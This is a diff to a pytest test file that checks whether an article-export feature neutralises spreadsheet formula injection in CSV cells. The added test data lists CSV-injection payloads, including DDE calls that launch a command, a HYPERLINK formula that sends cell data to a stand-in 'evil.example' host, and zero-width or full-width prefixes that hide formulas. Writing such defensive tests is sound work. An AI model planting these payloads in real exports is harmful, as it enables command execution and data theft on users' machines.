@@ -86,7 +86,28 @@ def test_line_breaks_and_quotes_survive_in_a_table():
     assert spreadsheet(make_article(body=body))[0]["body"] == body
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize(
+    "start",
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t",
+        "\r",
+        "\n",
+        "＝",
+        "＋",
+        "－",
+        "＠",
+        " =",
+        "\u3000=",
+        "\ufeff+",
+        "\u200b@",
+        " \t=",
+        "\xa0-",
+    ],
+)
 def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(start):
     title = f"{start}HYPERLINK(1)"
     assert spreadsheet(make_article(title=title))[0]["title"] == f"'{title}"
@@ -97,3 +118,32 @@ def test_a_table_holds_everything_that_a_row_does():
     named_otherwise = {"issue": "issue_url"}
     row = article_row(article, "https://archive.example/")
     assert {named_otherwise.get(key, key) for key in row} <= set(spreadsheet(article)[0])
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("https://evil.example/?x="&A1,"Tides")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1-1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '=1+1";=1+2',
+        "\n=1+1",
+        "Tides\r\n=1+1",
+        'Tides","=1+1',
+        '=DDE("cmd";"/C calc";"x")',
+    ],
+)
+def test_no_cell_of_a_table_starts_a_formula(payload):
+    """Read back by csv, as a spreadsheet would: what came in as one cell is one cell, and none of them runs."""
+    article = make_article(title=payload, byline=payload, body=payload)
+    lines = list(csv.reader(io.StringIO(exported("csv", article).removeprefix("\ufeff"), newline="")))
+    assert [len(line) for line in lines] == [len(lines[0])] * 2
+    assert not [cell for cell in lines[1] if cell.lstrip().startswith(("=", "+", "-", "@"))]
+    assert {payload, f"'{payload}"} & set(lines[1])
+
+
+def test_numbers_in_a_table_stay_numbers():
+    (line,) = spreadsheet(make_article(position=7, body="Three words here."))
+    assert (line["position"], line["word_count"]) == ("7", "3")
